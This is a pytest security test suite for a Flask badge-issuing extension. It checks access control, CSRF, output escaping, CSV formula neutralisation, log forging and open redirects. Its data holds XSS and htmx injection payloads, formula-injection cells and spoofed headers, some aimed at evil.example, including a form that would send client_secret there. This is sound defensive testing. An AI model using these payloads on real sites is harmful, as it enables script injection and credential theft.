"""What somebody may try to do to a site through this extension, and that it does not
work. Which threat has which test is in docs/threats.md.
"""

from __future__ import annotations

import ast
import collections.abc as cabc
import contextlib
import csv
import dataclasses
import datetime as dt
import gzip
import html.parser
import io
import logging
import pathlib
import pickle
import re
import socket
import socketserver
import ssl
import threading
import traceback
import tracemalloc
import typing as t
import urllib.parse
import uuid
import zlib

import flask
import hypothesis
import pytest
import redis
import rq
import sqlalchemy as sa
import time_machine
from conftest import a_member
from conftest import connect
from conftest import Connected
from conftest import COURSES
from conftest import every_database
from conftest import Host
from conftest import MakeHost
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from flask import Flask
from flask import redirect
from flask import Response
from flask.testing import FlaskClient
from flask_sqlalchemy import SQLAlchemy
from flask_wtf import CSRFProtect
from hypothesis import strategies as st
from test_pages import Browser
from test_pages import digest
from test_pages import HX
from test_pages import LIST
from test_pages import WINDOW

import flask_credly
from flask_credly import connection
from flask_credly import Course
from flask_credly import course_completed
from flask_credly import Member
from flask_credly.credly import BadgeRequest
from flask_credly.credly import Client
from flask_credly.credly import fetch_token
from flask_credly.errors import CredlyError
from flask_credly.errors import OutcomeUnknown
from flask_credly.errors import Unavailable
from flask_credly.issuing import bell
from flask_credly.issuing.worker import CredlyWorker
from flask_credly.ledger import backfills
from flask_credly.ledger import log
from flask_credly.models import Base
from flask_credly.models import Connection
from flask_credly.models import Issuance
from flask_credly.models import LogEntry
from flask_credly.models import Mapping
from flask_credly.models import Template
from flask_credly.testing import CredlySimulator

PACKAGE = pathlib.Path(flask_credly.__file__).parent
ROOT = PACKAGE.parent

METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE")
SAFE = {"GET", "HEAD", "OPTIONS"}

# What each unsafe route would need to do something.
FIELDS = {
    "course": "course:sql",
    "email": "a@example.org",
    "first_name": "A",
    "last_name": "B",
}


class Route(t.NamedTuple):
    """An address of ours, and the methods that it has."""

    endpoint: str
    path: str
    methods: frozenset[str]


def routes(app: Flask) -> list[Route]:
    """Every route below the prefix, whoever added it: a new one cannot be forgotten.
    Ids are 1, of what :func:`fill` makes.
    """
    adapter = app.url_map.bind("localhost")
    found: dict[str, tuple[str, set[str]]] = {}

    for rule in app.url_map.iter_rules():
        if not rule.rule.startswith("/integrations"):
            continue

        ids = {
            name: "credly.css" if name == "filename" else 1 for name in rule.arguments
        }
        method = "GET" if "GET" in (rule.methods or ()) else None
        path = adapter.build(rule.endpoint, ids, method=method)
        found.setdefault(path, (rule.endpoint, set()))[1].update(rule.methods or ())

    return [
        Route(endpoint, path, frozenset(methods))
        for path, (endpoint, methods) in found.items()
    ]


def readable(app: Flask) -> list[str]:
    """The address of every page, part of a page, and file made of our tables."""
    return [
        route.path
        for route in routes(app)
        if "GET" in route.methods and route.endpoint != "credly.static"
    ]


def unsafe(app: Flask) -> list[tuple[str, str]]:
    """Every method and address that may change something."""
    return [
        (method, route.path)
        for route in routes(app)
        for method in sorted(route.methods - SAFE)
    ]


def past_completions(course: Course, since: object) -> list[tuple[Member, dt.datetime]]:
    return [(a_member("7"), dt.datetime(2026, 1, 1, tzinfo=dt.UTC))]


def fill(host: Host, credly: CredlySimulator) -> str:
    """Connect, and make one or more of everything that there can be.

    :return: The id of the mapped template.
    """
    # The requests of a test are made outside of a context of its own: they would share
    # what Flask-WTF keeps of one request.
    with host.app.app_context():
        template_id = connect(host, credly).template_id
        credly.posts_allowed = 9
        credly.fail("issue", times=4, status=422, body={"data": {"message": "No."}})
        host.complete("1")
        host.complete("4")
        host.drain(2)
        host.complete("2")
        host.drain()
        credly.fail("issue", status=429)
        host.complete("3")
        host.drain()
        backfills.start(host.state.engine, 1)
        states = {row.state for row in host.rows()}
        assert states == {"failed", "issued", "pending"}
        host.db.session.remove()

    return template_id


class Filled(t.NamedTuple):
    host: Host
    credly: CredlySimulator
    template_id: str


@pytest.fixture
def filled(make_host: MakeHost, credly: CredlySimulator) -> Filled:
    host = make_host(past_completions=past_completions)
    return Filled(host, credly, fill(host, credly))


def snapshot(host: Host, credly: CredlySimulator) -> tuple[str, int]:
    """Everything in our tables, and how many requests Credly has had."""
    with host.app.app_context():
        found = digest(host)
        host.db.session.remove()

    return found, len(credly.received)


@contextlib.contextmanager
def statements(host: Host) -> cabc.Iterator[list[str]]:
    """Gather what is said to the database."""
    said: list[str] = []

    def listen(connection: object, cursor: object, statement: str, *_: object) -> None:
        said.append(statement)

    with host.app.app_context():
        engine = host.state.engine

    sa.event.listen(engine, "before_cursor_execute", listen)
    yield said
    sa.event.remove(engine, "before_cursor_execute", listen)


# Who is let in


async def a_coroutine() -> bool:
    return True


def raise_error() -> bool:
    raise RuntimeError("the directory is down")


class Truthy:
    def __bool__(self) -> bool:
        return True

    def __eq__(self, other: object) -> bool:
        return True


ROLES: dict[str, cabc.Callable[[], t.Any]] = {
    "no session": lambda: flask.session.get("user") == "admin",
    "a member": lambda: False,
    "an error": raise_error,
    "nothing": lambda: None,
    "1": lambda: 1,
    "1.0": lambda: 1.0,
    "True in words": lambda: "True",
    "False in words": lambda: "False",
    "a list": lambda: [True],
    "a function": lambda: lambda: True,
    "a coroutine": a_coroutine,
    "what equals True": Truthy,
    "a login": lambda: redirect("/login"),
    "a refusal": lambda: Response("no", 401),
}
REFUSALS = {"a login": 302, "a refusal": 401}


@pytest.mark.filterwarnings("ignore:coroutine .* was never awaited")
@pytest.mark.parametrize("role", ROLES)
def test_every_route_role_and_method(
    make_host: MakeHost, credly: CredlySimulator, role: str
) -> None:
    """Nobody but an admin gets anything from any route, by any method. Without the
    tokens of forms, so that nothing else stands in the way.
    """
    hook: list[cabc.Callable[[], t.Any]] = [lambda: True]
    host = make_host(
        is_admin=lambda: hook[0](),
        past_completions=past_completions,
        WTF_CSRF_ENABLED=False,
    )

    template_id = fill(host, credly)
    before = snapshot(host, credly)
    hook[0] = ROLES[role]
    client = host.app.test_client()
    denied = REFUSALS.get(role, 403)
    wrong = []

    with statements(host) as said:
        for route in routes(host.app):
            for method in METHODS:
                has = method in route.methods

                for headers in ({}, HX) if has else ({},):
                    answer = client.open(
                        route.path,
                        method=method,
                        headers=headers,
                        data={**connect_fields(credly), "template": template_id},
                        buffered=True,
                    )
                    expected = denied if has else 405

                    if route.endpoint == "credly.static" and method in SAFE:
                        expected = 200

                    # htmx is told of a redirect in its own way.
                    if expected == 302 and headers:
                        expected = 401

                    if answer.status_code != expected:
                        wrong.append((method, route.path, answer.status))

    assert wrong == []
    assert said == []
    assert snapshot(host, credly) == before


def connect_fields(credly: CredlySimulator) -> dict[str, str]:
    return {
        **FIELDS,
        "organization_id": credly.organization_id,
        "client_id": credly.client_id,
        "client_secret": credly.client_secret,
    }


def test_an_admin_does_something_by_every_unsafe_route(
    make_host: MakeHost, credly: CredlySimulator
) -> None:
    """Or the tables of refusals would prove nothing."""
    host = make_host(past_completions=past_completions, WTF_CSRF_ENABLED=False)
    template_id = fill(host, credly)
    client = host.app.test_client()
    data = {**connect_fields(credly), "template": template_id}
    # What needs something comes before what ends it.
    first = ("/backfills/1/stop", "/badges/1/retry", "/badges/retry")
    order = [f"{WINDOW}{path}" for path in first]
    last = [f"{WINDOW}{path}" for path in ("/resume", "/mappings/1/remove", "/remove")]
    paths = [path for _, path in unsafe(host.app)]
    order += [path for path in paths if path not in order + last] + last
    idle = []

    for path in order:
        before = snapshot(host, credly)
        course = "learning_path:data" if path.endswith("/mappings/1") else "course:sql"
        client.post(path, data={**data, "course": course})

        if snapshot(host, credly) == before:
            idle.append(path)

    assert sorted(order) == sorted(paths)
    assert {method for method, _ in unsafe(host.app)} == {"POST"}
    assert idle == []


def test_no_route_is_open_to_services(host: Host) -> None:
    """There is no webhook: everything but the static files asks for the admin."""
    for rule in host.app.url_map.iter_rules():
        assert (
            rule.endpoint == "static"
            or rule.endpoint.startswith("credly.")
            and rule.rule.startswith("/integrations")
        ), rule

    assert host.app.blueprints["credly"].before_request_funcs[None]


# Forged requests


def kinds_of_host(kind: str) -> cabc.Callable[[Flask, SQLAlchemy], None] | None:
    if kind == "without":
        return None

    return lambda app, db: CSRFProtect(app) and None


TOKENS = ("none", "empty", "wrong", "another session's", "expired")


@pytest.mark.parametrize("token", TOKENS)
@pytest.mark.parametrize("kind", ["without", "with", "exempt"])
def test_no_unsafe_request_without_the_right_token(
    make_host: MakeHost, credly: CredlySimulator, kind: str, token: str
) -> None:
    host = make_host(past_completions=past_completions, setup=kinds_of_host(kind))

    if kind == "exempt":
        host.app.extensions["csrf"].exempt(host.app.blueprints["credly"])

    template_id = fill(host, credly)
    browser, other = Browser(host.app), Browser(host.app)
    given = {
        "empty": "",
        "wrong": "wrong",
        "another session's": other.token(WINDOW),
        "expired": browser.token(WINDOW),
    }
    data = {**connect_fields(credly), "template": template_id}
    data |= {"csrf_token": given[token]} if token in given else {}
    before = snapshot(host, credly)
    # Flask-WTF's tokens are good for an hour.
    later = dt.datetime.now() + dt.timedelta(seconds=3700)

    with time_machine.travel(later) if token == "expired" else contextlib.nullcontext():
        for method, path in unsafe(host.app):
            for headers in ({}, HX):
                answer = browser.client.open(
                    path, method=method, data=data, headers=headers
                )
                assert answer.status_code in (200, 303, 422), (path, answer.status)
                assert answer.status_code != 200 or "HX-Redirect" in answer.headers

    assert snapshot(host, credly) == before

    # The right one is taken, so it was not something else that refused.
    data["csrf_token"] = browser.token(WINDOW)
    browser.client.post(f"{WINDOW}/pause", data=data)
    assert snapshot(host, credly) != before


def test_only_a_test_can_switch_the_tokens_off(
    make_host: MakeHost, credly: CredlySimulator
) -> None:
    """A host with another protection than Flask-WTF's may have it switched off."""
    host = make_host(WTF_CSRF_ENABLED=False)
    fill(host, credly)
    before = snapshot(host, credly)
    client = host.app.test_client()
    host.app.testing = False

    for method, path in unsafe(host.app):
        client.open(path, method=method)

    assert snapshot(host, credly) == before

    host.app.testing = True
    client.post(f"{WINDOW}/pause")
    assert snapshot(host, credly) != before
    assert client.get(WINDOW).status_code == 200


def test_reading_writes_nothing(filled: Filled) -> None:
    """Not one statement that writes, whatever is asked for, and no request goes out.
    A message that was kept for the next page leaves the visitor's cookie: that is all.
    """
    host, credly, _ = filled
    client = host.app.test_client()
    before = snapshot(host, credly)
    queries = ("", "?mapping=1&undo=course:sql&template=x", "?q=a&status=failed&id=1")

    for path in readable(host.app):
        for headers in ({}, HX):
            for query in queries:
                with statements(host) as said:
                    client.get(path + query, headers=headers, buffered=True)

                wrote = [
                    each
                    for each in said
                    if not re.match(r"\s*(SELECT|PRAGMA|WITH)\b", each)
                ]
                assert wrote == [], path
                assert snapshot(host, credly) == before, path


def test_no_answer_can_be_framed_or_kept(filled: Filled) -> None:
    """Neither a page, nor a part of one, a file, a refused form or an error."""
    host, credly, _ = filled
    client = host.app.test_client()
    allowed = [True]
    object.__setattr__(host.state, "is_admin", lambda: allowed[0])
    seen = set()

    for route in routes(host.app):
        if route.endpoint == "credly.static":
            continue

        for method in sorted(route.methods):
            for headers in ({}, HX):
                for allowed[0] in (True, False):
                    answer = client.open(
                        route.path, method=method, headers=headers, buffered=True
                    )
                    seen.add(answer.status_code)
                    found = answer.headers
                    assert found["X-Frame-Options"] == "SAMEORIGIN", route
                    assert found["X-Content-Type-Options"] == "nosniff", route
                    assert found["Cache-Control"] == "no-store, private", route
                    assert found["Referrer-Policy"] == "same-origin", route
                    assert "HX-Request" in found["Vary"], route

                    if answer.mimetype == "text/html" and answer.data:
                        policy = found["Content-Security-Policy"]
                        assert "frame-ancestors 'none'" in policy

    assert seen >= {200, 303, 403, 422}


# Foreign text

BENIGN = "plain"

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "x onmouseover=alert(1) x",
    "` onclick=`alert(1)",
    '"><a hx-get="/integrations/credly/remove" hx-trigger=load>',
    '" hx-post="/integrations/credly/remove" hx-trigger="load',
    '<div hx-on:click="alert(1)">',
    "<svg/onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=client_secret>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!-- x",
    "--><b>",
    "]]><b>",
    "</bdi></td></tr></table></main><b>",
    "</title></head><body><b>",
    "</textarea></select></option><b>",
    "<plaintext>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#x22;&#34;",
    "%(number)s %s %d %(x)s %",
    '[[<b>]] [["]]',
    "a\x01<b>\x7f",
    "\ufeff\u202e<b>\u2028<i>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<" * 150,
]

INTERNAL = {
    "answer",
    "client_secret",
    "generation",
    "kind",
    "lease",
    "pause_reason",
    "state",
    "template_id",
    "token",
}
"""Columns of text that nobody outside can write into: their words are our own."""


class Tree(html.parser.HTMLParser):
    """The tags of a page, the names of their attributes, and where they lead."""

    LINKS = ("href", "src", "action", "formaction", "hx-get", "hx-post")

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.links: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(f"{tag} {[name for name, _ in attrs]}")
        self.links += [value or "" for name, value in attrs if name in self.LINKS]

    def handle_endtag(self, tag: str) -> None:
        self.found.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append(decl)


def write_everywhere(host: Host, text: str) -> None:
    """Put a text into every column that may hold what somebody outside wrote, without
    what cleans it on its way there.
    """
    with host.app.app_context():
        for table in Base.metadata.sorted_tables:
            outside = [
                column
                for column in table.columns
                if isinstance(column.type, sa.String)
                and column.name not in INTERNAL
                and not column.primary_key
                and (table.name, column.name) != ("credly_log_entry", "error")
            ]

            values: dict[str, t.Any] = {column.name: text for column in outside}

            if "image_url" in values:
                # Read from Credly's answer only if it begins so.
                values["image_url"] = f"https://images.example/{text}"

            if "member_id" in values:
                # A course has each member once.
                values["member_id"] = text + sa.cast(table.c.id, sa.String)

            if values:
                host.db.session.execute(sa.update(table).values(**values))

        host.db.session.commit()
        host.db.session.remove()


def answers_with(host: Host, text: str) -> dict[str, str]:
    """Every page and part of one, with a text in everything that is shown or sent."""
    write_everywhere(host, text)
    asked_for = dict.fromkeys(("q", "status", "type", "undo", "template", "said"), text)
    asked_for |= {"course": f"course:{text}", "mapping": "1"}
    query = urllib.parse.urlencode(asked_for)
    client = host.app.test_client()
    found = {}

    for path in readable(host.app):
        if path.endswith(".csv"):
            continue

        for headers in ({}, HX):
            for asked in (path, f"{path}?{query}"):
                answer = client.get(asked, headers=headers)
                found[f"GET {asked.replace(query, '…')} {headers}"] = answer.text

    fields = (*FIELDS, "organization_id", "client_id", "key", "search", "template")
    # None of them is good for Credly, whatever the text.
    sent_text = f"{text} é"
    data = dict.fromkeys((*fields, "course_text", "template_text"), sent_text)

    for path in (
        WINDOW,
        f"{WINDOW}/mappings",
        *(f"{WINDOW}/mappings/1{end}" for end in ("", "/test")),
    ):
        for headers in ({}, HX):
            for sent in (data, {**data, "search": ""}):
                answer = client.post(path, data=sent, headers=headers)
                assert answer.status_code in (200, 422), path
                found[f"POST {path} {headers} {bool(sent['search'])}"] = answer.text

    return found


@pytest.fixture
def open_site(
    make_host: MakeHost, credly: CredlySimulator
) -> tuple[Host, cabc.Callable[[str], None]]:
    """A site with everything on it, and a way to give all that it takes from its host
    a name.
    """
    named = [BENIGN]
    kinds: dict[str, t.Any] = {"": "course", "a": "course", "b": "learning_path"}

    def list_courses() -> list[Course]:
        # The mapped one has the text alone as its id, as all that is stored has.
        return [
            Course(id=named[0] + end, title=named[0] + end, kind=kind)
            for end, kind in kinds.items()
        ]

    host = make_host(
        courses=list_courses,
        past_completions=past_completions,
        WTF_CSRF_ENABLED=False,
    )
    fill(host, credly)

    def name(text: str) -> None:
        named[0] = text
        settings = dataclasses.replace(host.state.settings, platform_name=text)
        object.__setattr__(host.state, "settings", settings)

    return host, name


@pytest.mark.parametrize("part", range(5))
def test_foreign_text_adds_no_tag_to_any_page(
    open_site: tuple[Host, cabc.Callable[[str], None]], part: int
) -> None:
    host, name = open_site
    benign = answers_with(host, BENIGN)

    for text in PAYLOADS[part::5]:
        name(text)
        hostile = answers_with(host, text)
        assert benign.keys() == hostile.keys()

        for where, page in hostile.items():
            found = Tree(page)
            assert found.found == Tree(benign[where]).found, (where, text)
            assert [each for each in found.links if not is_own(each)] == [], where


def is_own(link: str) -> bool:
    """Whether an address leads to a page of ours, or to a badge at Credly."""
    own = ("/integrations/", "#credly-", "https://www.credly.com/badges/")
    return link.startswith((*own, "https://images.example/")) or link == "data:,"


def test_every_part_of_the_tree_is_looked_at() -> None:
    """A text that did get through would be seen."""
    page = '<p title="{}">{}</p>'
    seen = [
        text
        for text in PAYLOADS
        if Tree(page.format(text, text)).found != Tree(page.format("a", "a")).found
    ]

    assert len(seen) > 20


def test_no_template_marks_text_as_safe() -> None:
    """Jinja escapes all that is not marked. What is marked is made of constants."""
    for path in (ROOT / "templates").rglob("*.*"):
        text = path.read_text()
        assert path.suffix == ".html", path
        assert not re.search(r"\|\s*safe|autoescape|Markup|\|\s*forceescape", text), (
            path
        )
        assert not re.search(r"[\s\"']on[a-z]+\s*=", text), path
        # An attribute without quotes ends at the first blank of its value.
        assert not re.search(r"<[^>]*\s[\w-]+=\{\{", text), path

    found = {
        path.relative_to(PACKAGE).as_posix()
        for path in PACKAGE.rglob("*.py")
        if re.search(r"\bMarkup\(|__html__|render_template_string", path.read_text())
    }

    # A message is escaped before it is marked, see tests/test_words.py; the card is a
    # template of ours, rendered.
    assert found <= {"words.py", "admin/index.py"}


# Formulas in files

FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1"]
FORMULAS += ["＝1+1", "＋1", "－1", "＠1", '=HYPERLINK("//evil.example")', "=1,2;3"]


def cells(host: Host, path: str) -> list[list[str]]:
    text = host.app.test_client().get(path, buffered=True).data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("path", [f"{WINDOW}/badges.csv", f"{WINDOW}/errors.csv"])
def test_no_cell_of_a_file_is_a_formula(filled: Filled, path: str) -> None:
    """And each is the text that it was, behind an apostrophe where it needs one."""
    host = filled.host
    texts = st.one_of(
        st.sampled_from(FORMULAS),
        st.text(st.characters(codec="utf-8"), min_size=1, max_size=20),
    )

    @hypothesis.settings(
        max_examples=40,
        deadline=None,
        database=None,
        suppress_health_check=list(hypothesis.HealthCheck),
    )
    @hypothesis.given(texts)
    def check(text: str) -> None:
        write_everywhere(host, text)
        header, *rows = cells(host, path)
        assert rows
        found = [cell for row in rows for cell in row]
        begins = tuple(each[0] for each in FORMULAS)
        assert not [cell for cell in found if cell.startswith(begins)]
        expected = f"'{text}" if text.startswith(begins) else text
        assert expected in found

    for formula in FORMULAS:
        check = hypothesis.example(formula)(check)

    check()


# Lines of the log

LINES = [
    "x\r\n2026-01-01 ERROR FORGED all is well",
    "x\n\nFORGED",
    "x\rFORGED",
    "\x1b[2J\x1b[1;1HFORGED",
    "x\u2028FORGED\u2029FORGED",
    "x\x85FORGED\x0bFORGED\x0cFORGED\x1cFORGED",
    "x\x00FORGED\x08\x08\x08FORGED",
    "\u202eDEGROF",
]


@pytest.mark.parametrize("text", LINES, ids=range(len(LINES)))
def test_one_record_is_one_line(
    make_host: MakeHost,
    credly: CredlySimulator,
    caplog: pytest.LogCaptureFixture,
    text: str,
) -> None:
    """Whatever a member, the host or Credly writes into it."""
    host = make_host(member=lambda member_id: None)
    caplog.set_level(logging.DEBUG)
    message = {"data": {"message": text}}

    with host.app.app_context():
        template_id = connect(host, credly).template_id
        course = Course(id=f"id {text}", title=text)
        connection.add_mapping(host.state, course, template_id)
        member = Member(id=text, email=text, first_name=text, last_name=text)

        # What is recorded, refused, and taken back
        host.complete(member=member, course_id=course.id)
        host.complete(member=Member(text, f"{text}@example.org", text, text))
        credly.posts_allowed = 9
        credly.fail("issue", status=422, times=4, body=message)
        host.drain(2)

        for wrong in (
            {"kind": text},
            {"course_id": text * 200},
            {"completed_at": text},
            {text: text},
        ):
            given = {"member": member, "course_id": "py-101", **wrong}
            course_completed.send(host.app, **t.cast(t.Any, given))

        host.db.session.execute(sa.update(Mapping).values(course_title="by the host"))
        host.complete(member=Member(f"{text}2", text, text, text), course_id=course.id)
        host.db.session.rollback()

        # What Credly says
        for kind in ("issue", "token", "templates"):
            for status in (401, 403, 429, 500):
                credly.fail(t.cast(t.Any, kind), status=status, body=message)
                credly.revoke_tokens()
                host.complete(f"{kind} {status}")
                host.drain()
                host.db.session.execute(
                    sa.update(Connection).values(
                        paused_until=None, token=None, expired=False
                    )
                )
                host.db.session.commit()

                with contextlib.suppress(CredlyError):
                    connection.sync_templates(host.state)

                credly.clear_faults()

        client = host.app.test_client()
        client.get(f"{WINDOW}/{urllib.parse.quote(text)}")

    ours = [each for each in caplog.records if each.name.startswith("flask_credly")]
    assert len(ours) > 10

    for record in ours:
        said = record.getMessage()
        assert said.isprintable(), said
        # What follows it is the traceback of an error, if there is one. None of its
        # lines is one that somebody else has written.
        for line in logging.Formatter().format(record).splitlines():
            assert not line.startswith(("FORGED", "2026")), line
            assert line.isprintable(), line


# Redirects


def test_no_redirect_leads_to_where_a_request_says(filled: Filled) -> None:
    host, _, template_id = filled
    evil = "evil.example"
    browser = Browser(host.app)
    token = browser.token(WINDOW)
    sent = {
        "csrf_token": token,
        **dict.fromkeys(("next", "url", "return_to", "redirect"), f"//{evil}"),
        "template": template_id,
        "course": f"https://{evil}",
    }
    query = urllib.parse.urlencode(sent)
    lies = {
        "Referer": f"https://{evil}/",
        "Origin": f"https://{evil}",
        "X-Forwarded-Host": evil,
        "X-Forwarded-Prefix": f"//{evil}",
        "X-Original-URL": f"https://{evil}/",
        "X-Rewrite-URL": f"//{evil}",
        "HX-Current-URL": f"https://{evil}/",
    }
    paths = [*routes(host.app)]
    paths += [
        Route("", path, frozenset({"GET"}))
        for path in (
            LIST.rstrip("/"),
            f"/{LIST}credly",
            f"{LIST}/{evil}",
            f"//{evil}{WINDOW}",
            f"//{evil}/..{WINDOW}",
            f"/\\{evil}{WINDOW}",
            f"{LIST}/credly",
            f"{WINDOW}/",
        )
    ]
    led = set()

    for _, path, methods in paths:
        for method in sorted(methods - {"HEAD", "OPTIONS"}):
            for headers in ({}, HX):
                answer = browser.client.open(
                    f"{path}?{query}",
                    method=method,
                    headers={**lies, **headers},
                    data=sent if method == "POST" else None,
                    buffered=True,
                )
                told = [
                    value
                    for name, value in answer.headers
                    if name.lower() in ("location", "refresh")
                    or (name.lower().startswith("hx-"))
                ]

                for value in told:
                    led.add(value.partition("?")[0])
                    # A slash is missing, or there are two: Flask itself leads to the
                    # same host.
                    value = value.removeprefix("http://localhost")
                    assert re.match(r"/integrations/?[a-z/0-9]*(\?|$)", value), value

                if answer.mimetype == "text/html" and path.startswith(LIST):
                    links = Tree(answer.text).links
                    assert [each for each in links if not is_own(each)] == []

    assert len(led) > 3


# More than a form has


def test_a_form_takes_only_its_fields(filled: Filled) -> None:
    host, credly, template_id = filled
    browser = Browser(host.app)
    other = str(uuid.uuid4())
    extra = {
        "id": "99",
        "mapping_id": "99",
        "connection_id": "99",
        "organization_id": other,
        "kind": "learning_path",
        "course_id": "other",
        "course_title": "other",
        "template_id": other,
        "state": "issued",
        "member_id": "other",
        "badge_id": other,
        "test": "",
        "attempts": "-9",
        "expired": "0",
        "is_admin": "1",
        "next_request_at": "2000-01-01",
    }
    fields = {"course": "course:sql", "template": template_id}
    added = browser.post(f"{WINDOW}/mappings", **extra, **fields)
    page = f"{WINDOW}/mappings/1/test"
    tried = browser.post(page, page=page, **{**extra, **FIELDS})
    assert (added.status_code, tried.status_code) == (303, 303)

    with host.app.app_context():
        first, second = host.db.session.scalars(sa.select(Mapping).order_by(Mapping.id))
        assert (first.kind, first.course_id) == ("course", "py-101")
        assert (second.id, second.kind, second.course_id) == (2, "course", "sql")
        assert (second.course_title, second.template_id) == ("SQL basics", template_id)
        connected = host.db.session.scalars(sa.select(Connection)).one()
        assert connected.organization_id == credly.organization_id
        row = host.rows()[-1]
        assert (row.state, row.test, row.attempts) == ("pending", True, 0)
        assert row.member_id.startswith("test-")
        assert row.badge_id is None
        assert row.organization_id == credly.organization_id
        host.db.session.remove()


@pytest.mark.parametrize("headers", [None, HX], ids=["page", "htmx"])
@pytest.mark.parametrize("where", ["/mappings", "/mappings/1"])
def test_a_mapping_takes_only_what_is_offered(
    filled: Filled, where: str, headers: t.Any
) -> None:
    """Not another organization's template, nor one that is archived, nor a course that
    is not in the catalogue.
    """
    host, credly, template_id = filled
    archived = credly.add_template("Archived Badge")
    foreign = CredlySimulator().add_template("Badge of another organization")

    with host.app.app_context():
        connection.sync_templates(host.state)
        credly.change_template(archived, state="archived")
        connection.sync_templates(host.state)
        host.db.session.remove()

    browser = Browser(host.app)
    before = snapshot(host, credly)

    for course, template in (
        ("course:sql", archived),
        ("course:sql", foreign),
        ("course:sql", template_id.upper()),
        ("course:sql", f"{template_id} "[:-2]),
        ("course:not-there", template_id),
        ("learning_path:sql", template_id),
        ("course:data", template_id),
        ("COURSE:sql", template_id),
        ("course:SQL", template_id),
    ):
        answer = browser.post(
            f"{WINDOW}{where}", headers=headers, course=course, template=template
        )
        assert answer.status_code == 422, (course, template)

    assert snapshot(host, credly) == before


def test_a_foreign_id_is_an_unknown_one(
    make_host: MakeHost, credly: CredlySimulator
) -> None:
    """The ids of a connection that was removed mean nothing to the next, and its answer
    does not tell that they ever did.
    """
    host = make_host(past_completions=past_completions)
    fill(host, credly)

    with host.app.app_context():
        connection.remove(host.state)
        connect(host, credly)
        # SQLite gives the number of the last row anew.
        host.db.session.execute(sa.update(Mapping).values(id=50))
        host.db.session.commit()
        host.db.session.remove()

    browser = Browser(host.app)
    token = browser.token(WINDOW)
    before = snapshot(host, credly)
    compared = 0

    for rule in host.app.url_map.iter_rules():
        if not {"mapping_id", "run_id"} & rule.arguments:
            continue

        for method in sorted((rule.methods or set()) - {"HEAD", "OPTIONS"}):
            for headers in ({}, HX):
                answers = []

                for number in ("1", "999"):
                    path = re.sub("<int:[a-z_]+>", number, rule.rule)
                    answer = browser.client.open(
                        path,
                        method=method,
                        headers=headers,
                        data={"csrf_token": token, **FIELDS, "template": "x"},
                        follow_redirects=True,
                    )
                    text = re.sub(r'value="[^"]{60,}"', "", answer.text)
                    text = re.sub(r"credly-edit-[0-9a-f]{8}", "", text)
                    text = re.sub(r'value="[0-9a-f]{8}"', "", text)
                    given = dict(answer.headers)
                    given.pop("Set-Cookie", None)
                    given.pop("Content-Length", None)
                    text = re.sub(rf"\b{number}\b", "N", text)
                    answers.append((answer.status, str(given), text))

                assert answers[0] == answers[1], (method, rule.rule)
                compared += 1

    assert compared > 10
    assert snapshot(host, credly) == before
